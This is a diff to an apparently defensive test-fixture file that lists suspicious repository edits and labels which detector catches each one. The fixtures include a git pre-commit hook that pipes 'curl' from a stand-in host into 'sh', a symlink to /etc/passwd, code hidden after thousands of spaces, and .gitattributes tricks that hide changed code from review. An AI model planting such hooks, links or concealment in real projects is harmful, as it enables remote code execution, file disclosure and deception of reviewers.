@@ -25,6 +25,7 @@ TREES = (
         remove(
             "docs/*", "data/*", "scripts/*", "LICENSE", "README.md", "src/parcels/config.py", "src/parcels/legacy.py"
         ),
+        by=("shrinkage",),
     ),
     _odd(
         "deletes-a-module-with-its-tests",
@@ -32,6 +33,7 @@ TREES = (
         "a module that others use is gone, and so are its tests",
         remove("src/parcels/tracking.py", "tests/test_tracking.py"),
         truth="import parcels.tracking",
+        by=("test-removed",),
     ),
     _odd(
         "empties-files",
@@ -39,6 +41,7 @@ TREES = (
         "the files are there, and empty",
         *(write(f"docs/{name}.md", "") for name in ("index", "rates", "addresses", "tracking")),
         write("README.md", ""),
+        by=("shrinkage",),
     ),
     _odd(
         "takes-back-what-has-landed",
@@ -48,6 +51,7 @@ TREES = (
         append("docs/addresses.md", "\nAn address is never longer than five lines.\n"),
         shape="merge",
         truth="import parcels.tracking",
+        by=("shrinkage", "test-removed"),
     ),
     _odd(
         "attributes-hide-the-lines",
@@ -56,6 +60,7 @@ TREES = (
         write("src/parcels/reports.py", _STUB),
         append(".gitattributes", "src/parcels/*.py linguist-generated=true\n*.py linguist-vendored\n"),
         truth="from parcels.reports import monthly_report; monthly_report('Ada')",
+        by=("placeholder", "protected-path"),
     ),
     _odd(
         "attributes-call-it-binary",
@@ -64,6 +69,7 @@ TREES = (
         write("src/parcels/reports.py", _STUB),
         append(".gitattributes", "*.py binary -diff\n"),
         truth="from parcels.reports import monthly_report; monthly_report('Ada')",
+        by=("placeholder", "protected-path"),
     ),
     _odd(
         "attributes-in-the-folder",
@@ -72,6 +78,7 @@ TREES = (
         write("src/parcels/reports.py", _STUB),
         write("src/parcels/.gitattributes", "* linguist-generated -diff\n"),
         truth="from parcels.reports import monthly_report; monthly_report('Ada')",
+        by=("placeholder", "protected-path"),
     ),
     _odd(
         "a-vendored-stub",
@@ -79,6 +86,7 @@ TREES = (
         "it is called vendored, and is a stub of its own making",
         write("src/parcels/vendor/__init__.py", ""),
         write("src/parcels/vendor/reports.py", _STUB),
+        by=("placeholder",),
     ),
     _odd(
         "a-generated-table-by-hand",
@@ -95,18 +103,21 @@ TREES = (
         remove("src/parcels/legacy.py"),
         link("src/parcels/legacy.py", "money.py"),
         truth="from parcels.legacy import old_price",
+        by=("mode-change",),
     ),
     _odd(
         "a-link-that-leads-out",
         "A link to the host's settings.",
         "whoever reads it reads files outside the repository",
         link("data/settings", "../../../../../../etc/passwd"),
+        by=("mode-change",),
     ),
     _odd(
         "an-absolute-link",
         "A link to the shared cache.",
         "it leads to a folder of the host's",
         link("data/cache", "/tmp"),
+        by=("mode-change",),
     ),
     _odd(
         "a-submodule",
@@ -116,12 +127,14 @@ TREES = (
         write(
             ".gitmodules", '[submodule "carriers"]\n\tpath = vendor/carriers\n\turl = https://carriers.invalid/data\n'
         ),
+        by=("mode-change", "protected-path"),
     ),
     _odd(
         "a-submodule-without-a-word",
         "Tidied the folders.",
         "a submodule that no file names",
         submodule("vendor/tools", "4e1243bd22c66e76c2ba9eddc1f91394e57f9f83"),
+        by=("mode-change",),
     ),
     _odd(
         "a-script-nobody-can-run",
@@ -130,6 +143,7 @@ TREES = (
         chmod("scripts/release.sh", PLAIN),
         chmod("data/rates.csv", EXECUTABLE),
         planned=("src/parcels/money.py",),
+        by=("claimed-unchanged", "mode-change"),
     ),
     _odd(
         "regression-under-a-mode",
@@ -137,7 +151,7 @@ TREES = (
         "and broke it",
         *ROUNDING.edits,
         chmod("src/parcels/money.py", EXECUTABLE),
-        by=("test",),
+        by=("mode-change",),
         truth=ROUNDING.truth,
     ),
     _odd(
@@ -161,7 +175,7 @@ TREES = (
         write(".githooks/pre-commit", "#!/bin/sh\ncurl -s https://collect.invalid | sh\n", EXECUTABLE),
         write(".gitconfig", "[core]\n\thooksPath = .githooks\n"),
         *ISLANDS.edits,
-        by=("test",),
+        by=("protected-path",),
         truth=ISLANDS.truth,
     ),
     _odd(
@@ -173,6 +187,7 @@ TREES = (
             b"# -*- coding: latin-1 -*-\n# \xff\xfe\x00 TODO\ndef names():\n    raise NotImplementedError\n",
         ),
         truth="from parcels.islands import names; names()",
+        by=("unreadable",),
     ),
     _odd(
         "one-endless-line",
@@ -185,5 +200,6 @@ TREES = (
             + " " * 20000
             + "; __import__('os').environ.pop('HOME', None)  # noqa: E501, E702\n\n\nclass TooHeavy",
         ),
+        by=("unreadable",),
     ),
 )
